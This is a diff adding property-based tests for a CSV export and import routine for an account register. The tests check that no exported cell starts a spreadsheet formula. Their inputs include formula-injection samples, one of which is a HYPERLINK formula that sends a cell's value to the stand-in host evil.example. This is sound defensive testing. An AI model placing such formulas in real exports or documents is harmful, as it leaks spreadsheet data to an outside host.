@@ -16,8 +16,9 @@ import {
   HrWebhookBody,
   parsePutEventFile,
 } from '../../events/schemas.ts';
-import { PLATFORMS, MONITORING_FREQUENCIES, isEmail } from '../../functions/domain/model.ts';
-import { parseRegisterCsv, REGISTER_COLUMNS, type ParseResult } from '../../functions/domain/register-csv.ts';
+import { parse as parseCsvText } from 'csv-parse/sync';
+import { PLATFORMS, MONITORING_FREQUENCIES, accountId, cleanHandle, isEmail, type AccountFields } from '../../functions/domain/model.ts';
+import { parseRegisterCsv, REGISTER_COLUMNS, registerToCsv, type ParseResult } from '../../functions/domain/register-csv.ts';
 import { SIGNATURE_TOLERANCE_SECONDS, signBody, verifySignature } from '../../functions/domain/signature.ts';
 import { signToken, verifyToken } from '../../functions/domain/tokens.ts';
 
@@ -416,6 +417,57 @@ describe('parseRegisterCsv over random and malformed input', () => {
       else b.splice(at, 1);
       checkCsv(Buffer.from(b));
     }), { numRuns: 400 });
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Register export → import, with values a spreadsheet would read as formulas
+// ---------------------------------------------------------------------------------------------
+
+/** What starts a formula in a spreadsheet, after any `'`s (contracts section 4), and the `'`s themselves. */
+const formulaStart = fc.constantFrom('=', '+', '-', '@', "'", "'=", "''+", "'-", "'@", "'''=", '');
+const formulaText: fc.Arbitrary<string> = fc.oneof(
+  fc.tuple(formulaStart, fc.stringMatching(/^[A-Za-z0-9 ()"&,.;:!?/'=+@-]{0,24}$/)).map(([p, rest]) => `${p}${rest}`.trim()),
+  fc.constantFrom('=HYPERLINK("x")', '=HYPERLINK("https://evil.example/?"&A1,"click")', '+44 7700 900123', '-1', '@SUM(1+1)', "'=1+1", "'", "''", '-', 'news\nand "events", =1'),
+).filter((v) => v !== '');
+const formulaEmail = fc.tuple(fc.constantFrom('=', '+', '-', "'", "'=", "'-", ''), fc.emailAddress())
+  .map(([p, e]) => `${p}${e}`.toLowerCase())
+  .filter((e) => isEmail(e) && e === e.trim());
+const formulaHandle = fc.tuple(formulaStart, fc.stringMatching(/^[A-Za-z0-9_.=+-]{1,15}$/))
+  .map(([p, h]) => `${p}${h}`)
+  .filter((h) => h !== '' && cleanHandle(h) === h);
+const isoDay = fc.date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
+
+const exportableRow: fc.Arbitrary<AccountFields> = fc.record({
+  platform: fc.constantFrom(...PLATFORMS),
+  handle: formulaHandle,
+  school: formulaText.filter((v) => !v.includes('\n')),
+  linkedEmail: formulaEmail,
+  admins: fc.uniqueArray(formulaEmail, { minLength: 1, maxLength: 3 }),
+  mainSupervisor: formulaEmail,
+  monitoringFrequency: fc.constantFrom(...MONITORING_FREQUENCIES),
+  url: fc.option(formulaText.filter((v) => !v.includes('\n')), { nil: undefined }),
+  reserveSupervisor: fc.option(formulaEmail, { nil: undefined }),
+  purpose: fc.option(formulaText, { nil: undefined }),
+  audience: fc.option(formulaText, { nil: undefined }),
+  publishedName: fc.option(formulaText.filter((v) => !v.includes('\n')), { nil: undefined }),
+  plannedEndDate: fc.option(isoDay, { nil: undefined }),
+  nextReviewDate: fc.option(isoDay, { nil: undefined }),
+  lastActivityDate: fc.option(isoDay, { nil: undefined }),
+}).map((r) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined)) as unknown as AccountFields);
+
+describe('registerToCsv then parseRegisterCsv, with formula-like values', () => {
+  it('is a no-op, and no exported cell starts a formula', () => {
+    const rows = fc.uniqueArray(exportableRow, { minLength: 1, maxLength: 5, selector: (r) => accountId(r.platform, r.handle) });
+    fc.assert(fc.property(rows, (given) => {
+      const out = registerToCsv(given);
+      // Each cell as a spreadsheet receives it: none may start with a formula character.
+      const cells = (parseCsvText(out) as string[][]).slice(1).flat();
+      for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+      const back = parseRegisterCsv(out);
+      expect(back.ok, JSON.stringify(back)).toBe(true);
+      if (back.ok) expect(back.rows.map(({ line: _line, ...fields }) => fields)).toEqual(given);
+    }), RUNS);
   });
 });
 
